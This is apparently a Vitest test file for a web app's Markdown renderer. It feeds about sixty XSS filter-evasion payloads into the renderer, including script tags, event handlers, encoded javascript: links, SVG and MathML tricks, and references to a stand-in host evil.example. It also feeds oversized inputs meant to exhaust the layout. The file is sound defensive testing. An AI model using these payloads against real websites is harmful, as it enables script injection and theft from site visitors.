import { NextIntlClientProvider } from "next-intl";
import { createElement, type ReactNode } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import en from "@/app/_messages/en.json";
import { Markdown } from "@/app/_ui/markdown";
import { noteTree } from "@/lib/markdown/note-tree";

const withMessages = (children: ReactNode) =>
  NextIntlClientProvider({ locale: "en-GB", timeZone: "UTC", messages: en, children });

const htmlOf = (markdown: string) => renderToStaticMarkup(withMessages(createElement(Markdown, null, markdown)));

/** The kinds of attacks in the OWASP "XSS Filter Evasion Cheat Sheet", and attacks that are specific to Markdown. */
const ATTACKS: [string, string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in mixed case, with line breaks", "<ScRiPt\n>alert(1)</sCrIpT\t>"],
  ["a script within a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["an unclosed script", '<script src="//evil.example/x.js"'],
  ["an image that fails to load", "<img src=x onerror=alert(1)>"],
  ["an image with a slash instead of a space", "<img/src=x/onerror=alert(1)//"],
  ["an image within other text", '"><img src=x onerror=alert(1)><"'],
  ["SVG", "<svg onload=alert(1)>"],
  ["SVG with a script", "<svg><script>alert(1)</script></svg>"],
  ["SVG that animates a link", '<svg><a><animate attributeName=href values="javascript:alert(1)"/></a></svg>'],
  ["SVG that references another", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  ["MathML", '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>'],
  [
    "elements that change the namespace",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  ],
  ["a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["an object", '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ["an embed element", '<embed src="//evil.example/x.swf">'],
  ["a form", '<form action="//evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>'],
  ["a style sheet", "<style>body{background:url(//evil.example)}</style>"],
  ["a style attribute", '<p style="background:url(javascript:alert(1))">x</p>'],
  ["a base element", '<base href="//evil.example/">'],
  ["a meta redirect", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["a link to a style sheet", '<link rel=stylesheet href="//evil.example/x.css">'],
  ["an element that opens by itself", "<details open ontoggle=alert(1)>x</details>"],
  ["an element that focuses itself", "<input autofocus onfocus=alert(1)>"],
  ["a video", "<video><source onerror=alert(1)></video>"],
  ["an element name that shadows one on the page", '<a id="location" name="cookie">x</a>'],
  ["a template", "<template><script>alert(1)</script></template>"],
  ["a comment that ends early", "<!--><img src=x onerror=alert(1)>-->"],
  ["CDATA", "<![CDATA[<script>alert(1)</script>]]>"],
  ["a processing instruction", "<?xml-stylesheet href='javascript:alert(1)'?>"],
  ["a link to a script", "[x](javascript:alert(1))"],
  ["a link to a script, in mixed case", "[x](JaVaScRiPt:alert(1))"],
  ["with entities", "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))"],
  ["with hexadecimal entities", "[x](&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1))"],
  ["with a named entity", "[x](javascript&colon;alert(1))"],
  ["with a tab", "[x](<java\tscript:alert(1)>)"],
  ["with an entity for a tab", "[x](java&Tab;script:alert(1))"],
  ["with an entity for a line break", "[x](java&NewLine;script:alert(1))"],
  ["after a control character", "[x](<\u0001javascript:alert(1)>)"],
  ["after a non-standard space", "[x](\u00a0javascript:alert(1))"],
  ["percent-encoded", "[x](javascript%3Aalert(1))"],
  ["with a backslash", "[x](javascript\\:alert(1))"],
  ["a data URL", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["VBScript", "[x](vbscript:msgbox(1))"],
  ["a file", "[x](file:///etc/passwd)"],
  ["a blob URL", "[x](blob:https://example.org/1)"],
  ["a view-source URL", "[x](view-source:javascript:alert(1))"],
  ["a reference link", "[x][y]\n\n[y]: javascript:alert(1)"],
  ["a URL in angle brackets", "<javascript:alert(1)>"],
  ["a title that ends its attribute", '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")'],
  ["a URL that ends its attribute", '[x](https://example.org/"onmouseover="alert(1))'],
  ["text that ends its attribute", '![" onerror="alert(1)](https://example.org/x.png)'],
  ["an image with a script as its source", "![x](javascript:alert(1))"],
  ["an image from a data URL", "![x](data:image/svg+xml,<svg/onload=alert(1)>)"],
  ["an image within a link", "[![x](javascript:alert(1))](javascript:alert(2))"],
  ["a footnote with a name like a tag", "a[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: b"],
  ["a code language", "```<img/src=x/onerror=alert(1)>\na\n```"],
  ["code", "`<img src=x onerror=alert(1)>`"],
  ["a table", "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|"],
  ["an invalid mention", "[@Ann](person:javascript:alert(1))"],
  ["a mention with a tag", "[@<img src=x onerror=alert(1)>](person:5f0c1d6e-8a54-4c1f-9a4e-0d7f6f1f2a01)"],
];

/** All elements that a note can contain, with their allowed attributes. */
const ELEMENTS =
  /^(?:a|blockquote|br|code|del|div|em|h[1-6]|hr|li|ol|p|path|pre|rect|section|span|strong|sup|svg|table|tbody|td|th|thead|tr|ul)$/u;

describe("hostile Markdown", () => {
  it.each(ATTACKS)("with %s runs no script and fetches nothing", (_, markdown) => {
    const html = htmlOf(markdown);
    for (const [tag, name = "", attributes = ""] of html.matchAll(/<([a-z][\w-]*)((?:[^>"]|"[^"]*")*)>/giu)) {
      expect(name.toLowerCase(), tag).toMatch(ELEMENTS);
      for (const [, attribute = "", value = ""] of attributes.matchAll(/([\w:-]+)="([^"]*)"/gu)) {
        expect(attribute, tag).not.toMatch(/^(?:on|style|src|srcset|formaction|action|xlink|background|poster)/iu);
        if (attribute === "href") expect(value, tag).toMatch(/^(?:https?:|mailto:|#)|^[^:]*(?:[#?/]|$)/iu);
        if (attribute === "id") expect(value, tag).toMatch(/^(?:_|footnote-label$)/u);
      }
      // Links to other sites send no referrer and have no access to our page.
      if (/href="(?!#)/u.test(attributes)) expect(attributes).toMatch(/rel="noopener noreferrer nofollow"/u);
    }
  });

  it("shows an image from another site as a link, so that readers cannot be tracked", () => {
    expect(htmlOf("![a map](https://tracker.example/x.png)")).toMatch(
      /<a href="https:\/\/tracker.example\/x.png"[^>]*>a map<\/a>/u,
    );
  });
});

const DEEP = `${"> ".repeat(80)}the end`;
const MANY_CELLS = `|a|\n|-|\n${"|\n".repeat(20_000)}`;

describe("Markdown that is too complex to lay out", () => {
  it.each([
    ["blocks nested too deeply", DEEP],
    ["a table with too many cells", MANY_CELLS],
    ["emphasis nested too deeply", `${"*".repeat(16_000)}a${"*".repeat(16_000)}`],
    ["a long URL that is used too often", `[a]: http://x/${"a".repeat(25_000)}\n\n${"![a] ".repeat(4_000)}`],
  ])("(%s) is shown as plain text with an explanation", (_, markdown) => {
    const html = htmlOf(markdown);
    expect(html).toContain(en.notes.tooComplex);
    expect(html).toContain(`<pre>${markdown.replaceAll(">", "&gt;")}</pre>`);
  });

  it("stays small, however often a reference is used", () => {
    const html = htmlOf(`[a]: http://x/${"a".repeat(10_000)}\n\n${"[a] ".repeat(500)}`);
    expect(html.length).toBeLessThan(100_000);
  });

  it("has no nested links", () => {
    const html = htmlOf("[![a map](https://example.org/b.png) b](https://example.org)");
    expect(html).toMatch(/<a href="https:\/\/example.org"[^>]*>a map b<\/a>/u);
  });

  it("does not include normal notes: long lists of links, many quotations, a lot of emphasis", () => {
    const ordinary = [
      lines(400, (index) => `- [link ${index}](https://example.org/${index})`),
      lines(200, (index) => `> a *quotation* with _emphasis_, ${index}`),
      lines(100, () => "A paragraph with **bold**, _italics_ and [a link](https://example.org).\n"),
      "> > > a\n>\n> - b\n>   - c\n>     1. d",
    ];
    for (const markdown of ordinary) expect(noteTree(markdown).kind).toBe("formatted");
  });
});

function lines(count: number, line: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => line(index)).join("\n");
}
